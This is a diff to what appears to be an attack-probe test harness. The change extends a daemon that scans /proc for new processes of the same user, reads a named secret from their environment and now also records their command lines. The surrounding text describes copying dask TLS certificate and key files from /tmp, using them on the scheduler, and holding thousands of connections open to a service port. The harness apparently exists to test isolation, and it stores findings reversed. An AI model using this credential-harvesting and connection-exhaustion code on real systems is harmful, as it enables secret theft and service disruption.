@@ -13,11 +13,14 @@ What it tries comes from its environment:
                       it can read, and copies each dask.crt and dask.pem that appears in a
                       folder of /tmp (distributed writes a TLS context's certificate and key
                       there as it builds one); it writes FOLDER/found.json:
-                      `{"parent": CMDLINE, "environ": [...], "tls": bool, "scheduler": [...]}`,
+                      `{"parent": CMDLINE, "environ": [...], "where": [CMDLINE...],
+                      "tls": bool, "scheduler": [...]}`,
                       each value found reversed (never the secret itself), "scheduler" what
                       $NAME a function run in the scheduler with that certificate read
                       (empty when no certificate was found or no scheduler took it).
                       The agent prints {}.
+    ATTACK55_WATCH    FOLDER,NAME,SECONDS: the same daemon without the kill, for up to
+                      SECONDS: it ends as soon as it read $NAME in a new process of its uid.
     ATTACK55_HOLD     FOLDER,SECONDS: the first run (FOLDER/armed) opens connections to
                       the port of PASSHAT_MCP_URL, sending nothing, until one is refused or
                       it has 4,000, writes FOLDER/holding and holds them SECONDS: prints
@@ -167,9 +170,10 @@ def watch(folder: str, name: str, seconds: float, kill: int | None) -> None:
         with contextlib.suppress(OSError):
             os.kill(kill, signal.SIGKILL)
     found: set[str] = set()
+    where: set[str] = set()
     tls: dict[str, str] = {}
     deadline = time.monotonic() + seconds
-    while time.monotonic() < deadline and not (tls and found):
+    while time.monotonic() < deadline and not (tls and found) and not (found and kill is None):
         with contextlib.suppress(BlockingIOError):
             events = os.read(watcher, 65536)
             while events:
@@ -184,8 +188,11 @@ def watch(folder: str, name: str, seconds: float, kill: int | None) -> None:
             value = environ_value(pid, name)
             if value:
                 found.add(value[::-1])
+                with contextlib.suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
+                    where.add(file.read()[:120].replace(b"\0", b" ").decode(errors="replace"))
         time.sleep(0.0005)
     said["environ"] = sorted(found)
+    said["where"] = sorted(where)
     said["tls"] = bool(tls)
     if tls:
         said["scheduler"] = scheduler(tls["dask.crt"], tls["dask.pem"], name)
